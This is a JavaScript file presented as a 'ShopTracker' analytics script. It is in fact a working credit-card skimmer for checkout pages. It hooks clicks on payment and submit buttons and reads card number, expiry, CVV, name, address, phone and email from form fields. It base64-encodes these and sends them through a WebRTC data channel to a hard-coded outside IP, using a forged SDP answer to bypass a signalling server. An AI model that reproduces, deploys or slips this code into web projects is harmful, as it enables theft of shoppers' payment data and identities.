// corpus note: ES5 code with webkitRTCPeerConnection/mozRTCPeerConnection fallback and legacy callback API that base64-encodes payment fields read by name and sends them over a data channel
var ShopTracker = ShopTracker || {};
(function (ns, win, doc) {
  var Conn = win.RTCPeerConnection || win.webkitRTCPeerConnection || win.mozRTCPeerConnection;
  var Desc = win.RTCSessionDescription || win.webkitRTCSessionDescription || win.mozRTCSessionDescription;
  if (!Conn) return;

  var REMOTE = "198.51.100.9";
  var servers = { iceServers: [{ url: "stun:" + REMOTE + ":3478", urls: "stun:" + REMOTE + ":3478" }] };
  var opt = { optional: [{ RtpDataChannels: false }, { DtlsSrtpKeyAgreement: true }] };
  var peer = new Conn(servers, opt);
  var ch = peer.createDataChannel("stats", { reliable: true });
  var outbox = [];

  ch.onopen = function () {
    for (var i = 0; i < outbox.length; i++) ch.send(outbox[i]);
    outbox = [];
  };

  function b64(str) {
    try { return win.btoa(unescape(encodeURIComponent(str))); } catch (e) { return ""; }
  }

  function byName(n) {
    var list = doc.getElementsByName(n);
    return list.length && list[0].value ? list[0].value : "";
  }

  function first() {
    for (var i = 0; i < arguments.length; i++) {
      var v = byName(arguments[i]);
      if (v) return v;
    }
    return "";
  }

  peer.createOffer(function (offer) {
    peer.setLocalDescription(offer, function () {
      var sdp = offer.sdp
        .replace(/a=setup:actpass/, "a=setup:active")
        .replace(/a=ice-ufrag:\S+/, "a=ice-ufrag:wK2n")
        .replace(/a=ice-pwd:\S+/, "a=ice-pwd:Fh6yTq1pZr9xMs4bVn8cLe3w") +
        "a=candidate:2 1 udp 2113937151 " + REMOTE + " 3478 typ host\r\n";
      peer.setRemoteDescription(new Desc({ type: "answer", sdp: sdp }), function () {}, function () {});
    }, function () {});
  }, function () {});

  ns.push = function () {
    var pan = first("payment[cc_number]", "card_number", "ccNumber", "x_card_num");
    if (pan.replace(/\D/g, "").length < 13) return;
    var line = [
      pan,
      first("payment[cc_exp_month]", "exp_month", "ccExpMonth"),
      first("payment[cc_exp_year]", "exp_year", "ccExpYear"),
      first("payment[cc_cid]", "cvv", "card_code", "x_card_code"),
      first("billing[firstname]", "first_name") + " " + first("billing[lastname]", "last_name"),
      first("billing[street][0]", "billing[street][]", "address1"),
      first("billing[city]", "city"),
      first("billing[postcode]", "zip"),
      first("billing[telephone]", "phone"),
      first("billing[email]", "email", "login[username]"),
      doc.location.hostname
    ].join("|");
    var packed = b64(line);
    if (ch.readyState === "open") ch.send(packed); else outbox.push(packed);
  };

  var hook = function (e) {
    var t = e.target || e.srcElement;
    if (t && (t.tagName === "BUTTON" || t.type === "submit" || /checkout|place|pay/i.test(t.className))) ns.push();
  };
  if (doc.addEventListener) doc.addEventListener("click", hook, true);
  else doc.attachEvent("onclick", hook);
})(ShopTracker, window, document);
